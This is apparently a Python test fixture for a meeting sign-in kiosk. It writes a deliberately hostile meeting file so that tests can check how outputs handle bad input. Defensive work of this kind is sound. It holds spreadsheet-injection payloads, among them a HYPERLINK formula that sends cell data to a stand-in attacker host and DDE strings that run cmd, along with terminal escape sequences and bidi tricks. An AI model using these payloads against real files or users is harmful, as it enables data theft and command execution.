"""A meeting file holding hostile text, written straight into the store.

The roster import and the hub validate what they accept, but a meeting file
may come from a USB stick, an older SignDesk or a hub that did not: so every
output must cope with whatever a file holds. This writes such a file the way
an attacker would, below every check.
"""

from __future__ import annotations

import uuid
from pathlib import Path

from data.store import Store, now_iso
from kiosk.codes import new_code
from kiosk.meeting import create_meeting, set_signin

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
DDE = "+cmd|' /C calc'!A0"
ANSI = "\x1b[2J\x1b[31m王\x1b]0;pwned\x07"
C1 = "李\x9b31m四"
BIDI = "\u202e明小赵"
LONG_BRANCH = "北郊第一党支部" * 60  # 420 characters, 1,260 bytes of UTF-8
GARBAGE_TIMES = ["not a time", "", "2099-01-01T08:00:00+08:00", "1900-01-01T00:00:00",
                 "2026-13-45T99:99:99", "=1+1"]


def hostile_meeting(path: Path) -> dict[str, object]:
    """A held meeting whose names, branch and desk names and event times are hostile.

    Returns what was written, for the assertions.
    """
    store = create_meeting(path, title="=标题\x1b[31m", date="2026-11-28")
    try:
        set_signin(store, "open", "t")
        desk = store.desk_id("@SUM(1+1)*cmd|' /C calc'!A0", create=True)
        plain = store.branch_id("第二支部", create=True)
        long_branch = store.branch_id(LONG_BRANCH, create=True)
        store.assign_branch(long_branch, desk)
        names = {FORMULA: plain, DDE: plain, ANSI: plain, C1: long_branch, BIDI: long_branch,
                 "王\x07五\x00": plain, "-1": plain, "\t=1+1": plain, "正常的人": plain,
                 "@注释": long_branch}
        members = {}
        for n, (name, branch) in enumerate(names.items(), start=1):
            mid = store.insert_member({
                "number": f"=N{n}" if n == 2 else str(1000 + n), "name": name, "branch_id": branch,
                "phone": "=2+5" if n == 1 else f"1380000{n:04d}", "category": "full",
                "status": "active", "status_reason": "", "pinyin": "", "initials": "",
            })
            store.insert_card(new_code(store.meeting().code_prefix), mid, now_iso())
            members[name] = mid
        # Arrivals as a hub that did not validate would have stored them: a hostile
        # desk and operator, and times that are not times.
        events = []
        for at, name in zip(GARBAGE_TIMES, names, strict=False):
            ev = store.insert_event(
                id=uuid.uuid4().hex, kind="arrive", member_id=members[name],
                desk="=cmd|' /C calc'!A0\x1b[5m", operator="\x1b[31m攻击者",
                method="scan", at=at, stamp=True)
            events.append(ev)
        store.insert_event(id=uuid.uuid4().hex, kind="arrive", member_id=members["正常的人"],
                           desk="1号台", operator="王书记", method="scan",
                           at="2026-11-28T08:31:00+08:00", stamp=True)
        store.insert_event(id=uuid.uuid4().hex, kind="void", member_id=members[FORMULA],
                           desk="1号台", operator="王书记", method="manual", at="垃圾",
                           target=events[0].id, reason="=撤销\x1b[0m", stamp=True)
        return {"members": members, "events": events}
    finally:
        store.close()


def open_hostile(path: Path) -> Store:
    """The hostile meeting, open."""
    return Store.open(path)
